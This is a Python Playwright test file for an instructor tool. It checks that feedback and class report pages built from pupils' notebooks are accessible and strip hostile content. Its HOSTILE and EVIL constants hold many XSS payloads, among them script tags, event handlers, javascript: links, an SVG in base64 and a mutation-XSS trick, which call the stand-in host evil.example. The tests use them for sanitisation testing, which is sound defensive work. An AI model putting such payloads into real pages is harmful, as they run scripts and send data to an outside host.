"""Feedback and the teacher's pages in a real Chromium: readable for all, and nothing of a pupil's
file runs or asks the network for anything.
"""

import base64

import pytest
from axe_playwright_python.sync_playwright import Axe
from report_course import M04, all_right, cell, clicked, copies, desk, failed, make_course

from howcome import figures
from howcome_instructor.grade.notes import NEEDS_TEACHER, NOT_GRADABLE, Note
from howcome_instructor.grade.report import write_all

WCAG = {"runOnly": ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "best-practice"]}
EVIL = "window.hacked = true; fetch('https://evil.example/a')"
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{EVIL}"><script>{EVIL}</script></svg>'
IN_A_PICTURE = base64.b64encode(SVG.encode()).decode()
HOSTILE = f"""
<script>{EVIL}</script><img src="https://evil.example/b.png" onerror="{EVIL}">
<img src=x onerror="{EVIL}"><svg onload="{EVIL}"><animate onbegin="{EVIL}"/></svg>
<a href="javascript:{EVIL}">press me</a><a href="https://evil.example/c">or me</a>
<meta http-equiv="refresh" content="0;url=https://evil.example/d">
<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/e.css">
<style>@import "https://evil.example/f.css"; p {{ background: url(https://evil.example/g) }}</style>
<p style="position:fixed;inset:0;background:url(https://evil.example/h)">over all of it</p>
<iframe src="https://evil.example/i" srcdoc="<script>parent.hacked = true</script>"></iframe>
<form action="https://evil.example/j"><button autofocus onfocus="{EVIL}">send</button></form>
<object data="https://evil.example/k"></object><video src="https://evil.example/l"></video>
<img src="data:image/svg+xml;base64,{IN_A_PICTURE}" alt="a picture">
<details open ontoggle="{EVIL}"><summary>more</summary>less</details>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={EVIL}&gt;">
<div class="howcome-kept"></div></article></main></body></html><script>{EVIL}</script>
"""


@pytest.fixture(scope="module")
def course(tmp_path_factory):
    """A class with one of everything, and one pupil whose notebook is out for trouble."""
    pupils = ("amber-otter", "blue-heron", "calm-lynx", "dawn-finch", "early-crab", "fair-wren")
    pupils += ("green-seal", "happy-mole")
    course = make_course(tmp_path_factory.mktemp("class") / "course", pupils=pupils)
    bars = figures.bars({"Reef": 4, "Deep sea": 8}, alt="Reef 4, deep sea 8.", title="Wrong")
    with desk(course) as d:
        for student, language in (("amber-otter", ""), ("blue-heron", "es"), ("calm-lynx", "")):
            notebook, wrong = copies(d.notebook())
            clicked(notebook, "mend", {"counts": {}}, bars.html, "Reef 4, deep sea 8.")
            d.grade(student, notebook, misconceptions=wrong, language=language)
        d.grade("dawn-finch", _hostile(d.notebook()), notes=[Note("mark.older-marks", look=True)])
        d.refuse("early-crab", NOT_GRADABLE, notes=[Note("mark.unexpected", values={"what": "X"})])
        d.refuse("fair-wren", NEEDS_TEACHER, notes=[Note("mark.memory")])
        d.grade("green-seal", d.notebook())
        comment = d.ledger.gradebook.find_comment("letter", M04, M04, "amber-otter")
        comment.manual_comment = "Say how come, too."
        d.ledger.gradebook.db.commit()
    write_all(course)
    return course


def _hostile(notebook: dict) -> dict:
    all_right(notebook, HOSTILE)
    for task in ("misses", "mend", "which"):
        clicked(notebook, task, {"value": HOSTILE}, HOSTILE, HOSTILE)
    typed = cell(notebook, "answer-mend")
    typed["source"] = HOSTILE
    typed["outputs"] = [
        {"output_type": "stream", "name": "stdout", "text": HOSTILE},
        {"output_type": "display_data", "metadata": {}, "data": {"text/html": HOSTILE}},
        {"output_type": "display_data", "metadata": {}, "data": {"image/svg+xml": SVG}},
        {"output_type": "display_data", "metadata": {}, "data": {"image/png": HOSTILE}},
        {
            "output_type": "display_data",
            "metadata": {},
            "data": {"application/javascript": EVIL, "text/plain": "<js>"},
        },
        {"output_type": "error", "ename": HOSTILE, "evalue": HOSTILE, "traceback": [HOSTILE]},
    ]
    cell(notebook, "letter")["attachments"] = {
        HOSTILE: {"image/svg+xml": SVG, "text/html": HOSTILE}
    }
    failed(notebook, "check-mend", HOSTILE, HOSTILE)
    failed(notebook, "check-which", HOSTILE)
    return notebook


def feedback(course, student: str) -> str:
    """The address of a pupil's page."""
    return (course.feedback(student, M04) / f"{M04}.html").as_uri()


def addresses(course) -> dict[str, str]:
    """The pages that are looked at."""
    return {
        "feedback": feedback(course, "amber-otter"),
        "feedback in Spanish": feedback(course, "blue-heron"),
        "feedback without an answer": feedback(course, "green-seal"),
        "feedback without marks": feedback(course, "early-crab"),
        "feedback of a hostile file": feedback(course, "dawn-finch"),
        "class": (course.reports / f"{M04}.html").as_uri(),
        "course": (course.reports / "index.html").as_uri(),
    }


@pytest.mark.parametrize("theme", ["light", "dark"])
def test_axe_finds_nothing(course, new_page, theme):
    page = new_page(color_scheme=theme, bypass_csp=True)
    for name, address in addresses(course).items():
        page.goto(address)
        found = Axe().run(page, options=WCAG).response["violations"]
        told = [f"{one['id']}: {node['html'][:160]}" for one in found for node in one["nodes"]]
        assert told == [], name


@pytest.mark.parametrize("guard", ["with the page's policy", "by cleaning alone"])
def test_nothing_of_a_hostile_file_runs_or_asks_for_anything(course, new_page, guard):
    page = new_page(bypass_csp=guard == "by cleaning alone")
    asked, said = [], []
    page.on("request", lambda request: asked.append(request.url))
    page.on("dialog", lambda dialog: (said.append(dialog.message), dialog.dismiss()))
    page.on("console", lambda message: said.append(message.text))
    page.on("pageerror", lambda error: said.append(str(error)))
    for address in (feedback(course, "dawn-finch"), (course.reports / f"{M04}.html").as_uri()):
        asked.clear()
        page.goto(address)
        assert page.get_by_role("heading", level=1).inner_text() == "Who is missing?"
        page.mouse.click(200, 300)
        page.keyboard.press("Tab")
        page.wait_for_timeout(500)
        assert page.url == address
        assert page.evaluate("window.hacked") is None
        assert [one for one in asked if one != address and not one.startswith("data:image/")] == []
        assert said == []
        assert len(page.frames) == 1
        assert (
            page.evaluate(
                "[...document.querySelectorAll('*')].flatMap((one) => [...one.attributes])"
                ".filter((one) => /^on|javascript:|^(href|action)$/i.test(one.name + one.value)"
                " && !/^(#|index|\\.\\.)/.test(one.value)).map((one) => one.name + one.value)"
            )
            == []
        )
        assert page.locator("script, iframe, object, form, base, link, svg, math").count() == 0


def test_a_hostile_file_leaves_the_rest_of_the_page_as_it_is(course, new_page):
    page = new_page()
    page.goto(feedback(course, "dawn-finch"))
    assert page.locator("main .card").count() == 4
    assert page.locator("footer").inner_text().startswith("Do you want to know more")
    over = page.get_by_text("over all of it").first
    assert over.evaluate("(one) => getComputedStyle(one).position") == "static"


@pytest.mark.parametrize("width", [360, 640, 1280])
def test_no_page_is_wider_than_the_screen(course, new_page, width):
    page = new_page(viewport={"width": width, "height": 800})
    for name, address in addresses(course).items():
        page.goto(address)
        wide = page.evaluate("document.documentElement.scrollWidth")
        assert wide <= width, name


def test_twice_the_size_of_the_words_still_fits(course, new_page):
    page = new_page(viewport={"width": 1280, "height": 800}, bypass_csp=True)
    for name, address in addresses(course).items():
        page.goto(address)
        page.add_style_tag(content="html { font-size: 200%; }")
        assert page.evaluate("document.documentElement.scrollWidth") <= 1280, name


def test_by_keyboard_alone(course, new_page):
    page = new_page(viewport={"width": 360, "height": 800})
    page.goto((course.reports / f"{M04}.html").as_uri())
    page.keyboard.press("Tab")
    assert page.evaluate("document.activeElement.textContent") == "All lessons"
    page.keyboard.press("Tab")
    page.keyboard.press("Enter")
    assert page.url.endswith("#needs")
    seen = set()
    for _ in range(40):
        page.keyboard.press("Tab")
        seen.add(page.evaluate("document.activeElement.getAttribute('aria-labelledby')"))
    assert {"not-gradable", "look", "tasks", "all"} <= seen  # wide tables can be scrolled
    page.goto(feedback(course, "amber-otter"))
    page.keyboard.press("Tab")
    assert page.evaluate("document.activeElement.localName") == "summary"
    first = page.locator("details").first
    page.keyboard.press("Enter")
    assert first.evaluate("(one) => one.open") is False


def test_answers_that_are_folded_away_are_printed(course, new_page):
    page = new_page()
    page.goto(feedback(course, "amber-otter"))
    page.locator("summary").last.click()
    letter = page.get_by_text("The deep-sea creatures pay.")
    assert not letter.is_visible()
    page.emulate_media(media="print", color_scheme="dark")
    assert letter.is_visible()
    ink = "getComputedStyle(document.body)"
    assert page.evaluate(f"[{ink}.color, {ink}.backgroundColor]") == [
        "rgb(0, 0, 0)",
        "rgb(255, 255, 255)",
    ]


def test_words_in_another_language_are_marked(course, new_page):
    page = new_page()
    page.goto(feedback(course, "blue-heron"))
    assert page.locator("html").get_attribute("lang") == "es"
    assert page.get_by_role("heading", level=1).get_attribute("lang") == "en"
    assert page.get_by_text("Compare line 3").get_attribute("lang") == "en"


def test_the_class_page_leads_to_each_pupil_s_page(course, new_page):
    page = new_page()
    page.goto((course.reports / f"{M04}.html").as_uri())
    page.get_by_role("link", name="Feedback of blue-heron").click()
    assert page.get_by_role("heading", level=2).first.inner_text() == "Lo que hiciste bien"
